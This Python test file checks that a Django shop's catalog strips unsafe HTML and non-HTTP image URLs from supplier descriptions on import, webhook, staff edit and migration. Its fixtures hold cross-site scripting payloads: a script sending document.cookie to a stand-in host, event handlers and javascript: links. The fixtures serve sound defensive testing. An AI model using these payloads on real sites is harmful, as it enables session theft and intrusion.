"""CJ's descriptions are sanitised once, when written, on every path: what the public API serves
carries no script, event handler or `javascript:` URL."""

import dataclasses

import pytest
from django.db import connection
from django.db.migrations.executor import MigrationExecutor

from catalog.content import description_clean, image_url_clean, image_urls_clean
from catalog.models import Product
from catalog.services import product_update_by_staff, product_update_from_cj
from catalog.sync.upsert import products_upsert
from tests.catalog.curated import import_catalog
from tests.catalog.factories import ProductFactory, cj_product

HOSTILE = (
    '<h1 onclick="steal()">Spoon set</h1><script>fetch("//evil.test/?c="+document.cookie)</script>'
    '<p style="position:fixed">Food-grade <b>silicone</b>.<img src="x" onerror="alert(1)">'
    '<img src="https://img.example.test/a.jpg" alt="A spoon" width="9"></p>'
    '<a href="javascript:alert(1)">win</a> <a href="https://shop.example.test/spoons" target="_blank">more</a>'
    '<iframe src="https://evil.test"></iframe><table><tr><td>Size</td><td>M</td></tr></table><!-- tracking -->'
)
CLEAN = (
    "Spoon set"
    '<p>Food-grade <b>silicone</b>.<img><img src="https://img.example.test/a.jpg" alt="A spoon"></p>'
    '<a rel="noopener nofollow">win</a> <a href="https://shop.example.test/spoons" rel="noopener nofollow">more</a>'
    "<table><tbody><tr><td>Size</td><td>M</td></tr></tbody></table>"
)


def test_only_the_allow_list_survives_and_cleaning_is_idempotent():
    assert description_clean(HOSTILE) == CLEAN
    assert description_clean(CLEAN) == CLEAN
    assert description_clean("") == ""
    assert description_clean('<img src="/local.png"><a href="//evil.test/x">x</a>') == (
        '<img><a rel="noopener nofollow">x</a>'
    )


@pytest.mark.django_db(transaction=True)
def test_a_hostile_description_from_cj_is_served_clean_by_the_product_api(cj_simulator, api_client):
    # given: a product whose supplier HTML carries a script, an event handler and a javascript: link
    pid = cj_simulator.add_product(description=HOSTILE)["pid"]

    # when: staff import it, published (the sync's write path brings it in)
    import_catalog(cj_simulator, pids=[pid])
    product = Product.objects.get(cj_pid=pid)

    # then
    response = api_client.get(f"/api/products/{product.pk}")
    assert response.status_code == 200
    assert response.json()["description"] == CLEAN
    assert Product.objects.get(pk=product.pk).description == CLEAN


@pytest.mark.django_db
def test_the_bulk_upsert_stores_the_clean_description_and_an_unchanged_one_writes_nothing():
    hostile = dataclasses.replace(cj_product(pid="P1"), description=HOSTILE)

    products_upsert(products=[hostile])
    again = products_upsert(products=[hostile])

    assert Product.objects.get(cj_pid="P1").description == CLEAN
    assert (again.updated, again.unchanged) == (0, 1)


@pytest.mark.django_db
def test_a_product_webhook_and_a_staff_edit_store_clean_descriptions():
    pushed = ProductFactory(cj_pid="P-PUSHED")
    edited = ProductFactory(cj_pid="P-EDITED")

    product_update_from_cj(cj_pid="P-PUSHED", description=HOSTILE)
    product_update_by_staff(product=edited, name=edited.name, description=HOSTILE, status="active")

    pushed.refresh_from_db()
    edited.refresh_from_db()
    assert (pushed.description, edited.description, edited.has_staff_description) == (CLEAN, CLEAN, True)


@pytest.mark.django_db(transaction=True)
def test_the_migration_cleans_the_descriptions_already_stored():
    before, after = [("catalog", "0003_write_path_indexes")], [("catalog", "0004_descriptions_sanitised")]
    executor = MigrationExecutor(connection)
    executor.migrate(before)
    old_product = executor.loader.project_state(before).apps.get_model("catalog", "Product")
    stored = old_product.objects.create(cj_pid="P-OLD", name="Old", description=HOSTILE)
    plain = old_product.objects.create(cj_pid="P-PLAIN", name="Plain", description="<p>Fine.</p>")

    try:
        executor = MigrationExecutor(connection)
        executor.migrate(after)

        new_product = executor.loader.project_state(after).apps.get_model("catalog", "Product")
        assert dict(new_product.objects.values_list("pk", "description")) == {
            stored.pk: CLEAN,
            plain.pk: "<p>Fine.</p>",
        }
    finally:
        executor = MigrationExecutor(connection)
        executor.migrate(executor.loader.graph.leaf_nodes())


IMAGES = [
    "https://img.example.test/a.jpg",
    "javascript:alert(1)",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "/local.jpg",
    "http://img.example.test/b.jpg",
    "https://[broken/c.jpg",
]


def test_only_absolute_http_image_urls_are_kept():
    assert image_urls_clean([*IMAGES, 7, None]) == ["https://img.example.test/a.jpg", "http://img.example.test/b.jpg"]
    assert (image_url_clean(" javascript:alert(1)"), image_url_clean("HTTPS://img.example.test/x.png")) == (
        "",
        "HTTPS://img.example.test/x.png",
    )


@pytest.mark.django_db
def test_the_upsert_and_a_product_webhook_keep_only_http_images():
    product = dataclasses.replace(cj_product(pid="P1"), images=tuple(IMAGES))
    variant = dataclasses.replace(product.variants[0], image="javascript:alert(1)")
    products_upsert(products=[dataclasses.replace(product, variants=(variant, *product.variants[1:]))])

    stored = Product.objects.get(cj_pid="P1")
    assert stored.images == ["https://img.example.test/a.jpg", "http://img.example.test/b.jpg"]
    assert stored.variants.get(cj_vid="P1-1").image == ""

    product_update_from_cj(cj_pid="P1", images=["javascript:alert(2)", "https://img.example.test/new.jpg"])
    stored.refresh_from_db()
    assert stored.images == ["https://img.example.test/new.jpg"]


@pytest.mark.django_db(transaction=True)
def test_the_migration_drops_stored_image_urls_that_are_not_http():
    before, after = [("catalog", "0005_variant_pending_cost")], [("catalog", "0006_image_urls_cleaned")]
    executor = MigrationExecutor(connection)
    executor.migrate(before)
    apps = executor.loader.project_state(before).apps
    product = apps.get_model("catalog", "Product").objects.create(cj_pid="P-OLD", name="Old", images=IMAGES)
    variants = apps.get_model("catalog", "Variant").objects
    common = {"product_id": product.pk, "supplier_cost": "1.00", "price": "3.90"}
    bad = variants.create(cj_vid="V-BAD", image="javascript:alert(1)", **common)
    good = variants.create(cj_vid="V-GOOD", image="https://img.example.test/v.jpg", **common)

    try:
        executor = MigrationExecutor(connection)
        executor.migrate(after)

        apps = executor.loader.project_state(after).apps
        assert apps.get_model("catalog", "Product").objects.get(pk=product.pk).images == [
            "https://img.example.test/a.jpg",
            "http://img.example.test/b.jpg",
        ]
        assert dict(apps.get_model("catalog", "Variant").objects.values_list("pk", "image")) == {
            bad.pk: "",
            good.pk: "https://img.example.test/v.jpg",
        }
    finally:
        executor = MigrationExecutor(connection)
        executor.migrate(executor.loader.graph.leaf_nodes())
